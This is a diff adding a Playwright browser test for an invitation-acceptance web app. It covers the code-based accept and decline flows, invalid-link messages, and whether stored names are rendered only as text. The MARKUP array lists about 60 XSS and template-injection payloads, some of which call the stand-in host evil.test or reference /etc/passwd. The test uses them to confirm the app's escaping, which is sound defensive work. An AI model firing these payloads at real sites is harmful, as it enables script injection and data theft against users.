@@ -1,0 +1,257 @@
+// node pages.mjs URL: the pages of a running `invited dev` in Chromium. Opening a link changes nothing; address and code accept; what
+// others wrote stays text; nothing is asked of other servers. With a key, `node pages.mjs URL KEY`: those of a server without mail.
+import assert from "node:assert/strict";
+import { chromium } from "playwright-core";
+
+const [url, key] = process.argv.slice(2);
+
+// What markup could do harm; each is stored as a name, and shown by every page.
+const MARKUP = [
+  "<script>alert(1)</script>",
+  "<ScRiPt>alert(1)</sCrIpT>",
+  "<script src=http://evil.test/x.js></script>",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</noscript><script>alert(1)</script>",
+  "--><script>alert(1)</script>",
+  "]]><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=http://evil.test/x.png>",
+  "<img/src='x'/onerror='alert(1)'>",
+  "<image href=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg/onload=alert(1)//",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<svg><a href='javascript:alert(1)'><text y=9>x</text></a>",
+  "<math href='javascript:alert(1)'>x</math>",
+  "<body onload=alert(1)>",
+  "<iframe src='javascript:alert(1)'></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<iframe src=http://evil.test/></iframe>",
+  "<object data='javascript:alert(1)'></object>",
+  "<embed src='javascript:alert(1)'>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<input autofocus onfocus=alert(1)>",
+  "<select autofocus onfocus=alert(1)>",
+  "<button autofocus onfocus=alert(1)>x",
+  "<marquee onstart=alert(1)>x</marquee>",
+  "<a href='javascript:alert(1)'>x</a>",
+  "<a href=http://evil.test/>x</a>",
+  "<form action='javascript:alert(1)'><button>x",
+  "<form action=http://evil.test/><input name=code>",
+  "<base href=http://evil.test/>",
+  "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+  "<link rel=stylesheet href=http://evil.test/x.css>",
+  "<style>@import 'http://evil.test/x.css';</style>",
+  "<style>*{background:url(http://evil.test/x)}</style>",
+  "<p style='background:url(http://evil.test/x)'>x",
+  "<template><script>alert(1)</script></template>",
+  "<b onmouseover=alert(1)>x</b>",
+  "\" onmouseover=\"alert(1)",
+  "' onfocus='alert(1)' autofocus='",
+  "\"><script>alert(1)</script>",
+  "'><img src=x onerror=alert(1)>",
+  "`-alert(1)-`",
+  "${alert(1)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "{% include '/etc/passwd' %}",
+  "{{ 7 * 7 }}",
+  "javascript:alert(1)",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "http://evil.test/ is where you should go",
+];
+
+let checks = 0;
+function check(isSo, what) {
+  assert.ok(isSo, what);
+  checks += 1;
+}
+
+async function api(method, path, body) {
+  const headers = { ...(body && { "Content-Type": "application/json" }), ...(key && { Authorization: `Bearer ${key}` }) };
+  const response = await fetch(url + path, { method, headers, body: body && JSON.stringify(body) });
+  assert.ok(response.ok, `${method} ${path}: ${response.status} ${response.ok ? "" : await response.text()}`);
+  return response.status === 204 ? null : response.json();
+}
+
+const at = (invitation) => `/v1/organizations/${invitation.organizationId}/invitations/${invitation.id}`;
+const invite = (organization, body) => api("POST", `/v1/organizations/${organization}/invitations`, { role: "developer", ...body });
+
+// The newest mail of a kind to an address.
+async function mail(to, kind) {
+  const mails = await api("GET", `/dev/mailbox?to=${encodeURIComponent(to)}&kind=${kind}&wait=10s`);
+  assert.ok(mails.length > 0, `no ${kind} for ${to}`);
+  return mails[0];
+}
+
+const browser = await chromium.launch({
+  executablePath: "/usr/bin/chromium",
+  args: ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-gpu"],
+});
+const context = await browser.newContext({ viewport: { width: 360, height: 640 } });
+context.setDefaultTimeout(15_000);
+
+// What no page may ever cause.
+const wrong = [];
+await context.addInitScript(() => {
+  addEventListener("securitypolicyviolation", (event) => console.error(`CSP: ${event.violatedDirective} ${event.blockedURI}`));
+});
+context.on("request", (request) => {
+  if (!request.url().startsWith(`${url}/`)) wrong.push(`a request to ${request.url()}`);
+});
+context.on("dialog", (dialog) => {
+  wrong.push(`a dialog: ${dialog.message()}`);
+  dialog.dismiss();
+});
+context.on("console", (message) => {
+  if (/CSP|Content Security Policy/.test(message.text())) wrong.push(message.text());
+});
+context.on("weberror", (error) => wrong.push(`an error: ${error.error()}`));
+
+function nothingWrong(where) {
+  assert.deepEqual(wrong, [], where);
+  checks += 1;
+}
+
+// Opens `address` in a tab of its own, and answers what `look` makes of it.
+async function visit(address, look) {
+  const page = await context.newPage();
+  await page.goto(address);
+  const seen = await look(page);
+  nothingWrong(address);
+  await page.close();
+  return seen;
+}
+
+const title = (page, text) => page.waitForFunction((text) => document.querySelector("h1").textContent.includes(text), text);
+
+async function acceptsByCode() {
+  const made = await invite("hooli", {
+    email: "ada@example.com", inviter: { name: "Grace Hopper" }, redirectUrl: `${url}/health/live`,
+  });
+  const before = await api("GET", at(made));
+  const { link } = await mail("ada@example.com", "invitation");
+  check(link.startsWith(`${url}/accept#ivt_`), link);
+  await visit(link, async (page) => {
+    await title(page, "You are invited to hooli");
+    const text = await page.innerText("body");
+    check(text.includes("Grace Hopper") && text.includes("developer"), text);
+    check(!(await page.content()).includes("ada@example.com"), "the page shows no address");
+    check(page.url() === `${url}/accept`, "the token leaves the address bar");
+    check(!(await page.content()).includes("ivt_"), "the token is nowhere on the page");
+    await page.waitForTimeout(1000);
+    const after = await api("GET", at(made));
+    check(after.status === "pending" && after.updatedAt === before.updatedAt, "opening the link changes nothing");
+    check((await api("GET", "/dev/mailbox?kind=code")).length === 0, "no code is asked for by opening it");
+    check((await page.evaluate(() => document.documentElement.scrollWidth)) <= 360, "it fits a phone");
+
+    // By keyboard only: the address, the wrong one first.
+    await page.focus("#email");
+    await page.keyboard.type("nonsense");
+    await page.keyboard.press("Enter");
+    await page.waitForFunction(() => document.querySelector("[role=alert]").textContent.includes("not an e-mail"));
+    await page.fill("#email", "Ada@Example.com");
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("#answer:not([hidden])");
+    const { code } = await mail("ada@example.com", "code");
+    check((await page.evaluate(() => document.activeElement.id)) === "code", "the code is asked for next");
+    await page.keyboard.type(code === "000000" ? "000001" : "000000");
+    await page.keyboard.press("Enter");
+    await page.waitForFunction(() => document.querySelector("[role=alert]").textContent.includes("do not fit"));
+    check((await api("GET", at(made))).status === "pending", "a wrong code accepts nothing");
+    await page.fill("#code", code);
+    await page.keyboard.press("Enter");
+    await title(page, "Welcome");
+    check((await api("GET", at(made))).status === "accepted", "the right one accepts");
+    check((await page.getAttribute("#continue", "href")) === `${url}/health/live`, "the way on is a link");
+    check((await page.isVisible("#continue")) && page.url() === `${url}/accept`, "and nobody is sent there unasked");
+  });
+  await visit(link, async (page) => {
+    await page.waitForFunction(() => document.body.innerText.includes("has been accepted"));
+    check(!(await page.isVisible("#ask")), "an accepted one asks for nothing");
+  });
+}
+
+async function declines() {
+  const made = await invite("hooli", { email: "bob@example.com" });
+  const { link } = await mail("bob@example.com", "invitation");
+  await visit(link, async (page) => {
+    await page.fill("#email", "bob@example.com");
+    await page.click("#ask button");
+    await page.fill("#code", (await mail("bob@example.com", "code")).code);
+    await page.click("text=Decline");
+    await title(page, "Declined");
+  });
+  check((await api("GET", at(made))).status === "declined", "it is declined");
+}
+
+async function saysWhatIsWrongWithALink() {
+  const say = (address, text) => visit(address, (page) => page.waitForFunction((text) => document.body.innerText.includes(text), text));
+  await say(`${url}/accept`, "Open the link in your invitation mail");
+  await say(`${url}/accept#nonsense`, "This link is not valid");
+  await say(`${url}/accept#%`, "This link is not valid");
+  await say(`${url}/accept#ivt_${"0".repeat(32)}_${"0".repeat(64)}`, "This link is not valid");
+  const made = await invite("hooli", { email: "carl@example.com" });
+  const { link } = await mail("carl@example.com", "invitation");
+  await api("POST", `${at(made)}/resend`);
+  await say(link, "This link is not valid");
+  const newest = await mail("carl@example.com", "invitation");
+  check(newest.link !== link, "the mail of the resend is the newest one");
+  await api("POST", `${at(made)}/revoke`);
+  await say(newest.link, "withdrawn");
+  checks += 6;
+}
+
+async function storedTextIsText() {
+  check(MARKUP.length >= 60, `${MARKUP.length} payloads`);
+  for (const [number, markup] of MARKUP.entries()) {
+    const organization = `x${number}`;
+    const email = `x${number}@example.com`;
+    await api("PUT", `/v1/organizations/${organization}`, { name: markup });
+    const made = await invite(organization, { email, inviter: { name: markup } });
+    const { id, link } = await mail(email, "invitation");
+    await visit(link, async (page) => {
+      await title(page, "You are invited to");
+      check((await page.textContent("h1")).includes(markup), `${markup} is text in the title`);
+      check((await page.textContent("#organization")) === markup, `${markup} is text as an organization`);
+      check((await page.textContent("#inviter")) === markup, `${markup} is text as an inviter`);
+    });
+    await visit(`${url}/dev/mail`, (page) => page.waitForSelector("table"));
+    await visit(`${url}/dev/mail/${id}`, async (page) => {
+      check((await page.textContent("#link")) === link, "the link is shown");
+      await page.waitForLoadState("networkidle");
+    });
+    await visit(`${url}/dev/mailbox/${id}/html`, (page) => page.waitForLoadState());
+    check((await api("GET", at(made))).status === "pending", "looking changes nothing");
+  }
+}
+
+async function saysThatThereIsNoMail() {
+  const made = await invite("acme", { email: "ada@example.com" });
+  const { url: link } = await api("POST", `${at(made)}/link`);
+  await visit(link, async (page) => {
+    await title(page, "You are invited to acme");
+    check((await page.innerText("body")).includes("sends no mail"), "it says that no code can come");
+    check(!(await page.isVisible("#ask")), "and asks for none");
+  });
+  check((await api("GET", at(made))).status === "pending", "opening the link changes nothing");
+}
+
+try {
+  const tests = key ? [saysThatThereIsNoMail] : [acceptsByCode, declines, saysWhatIsWrongWithALink, storedTextIsText];
+  for (const test of tests) {
+    await test();
+    console.log(`ok: ${test.name}`);
+  }
+  console.log(`${checks} checks in Chromium ${browser.version()}`);
+} finally {
+  await browser.close();
+}
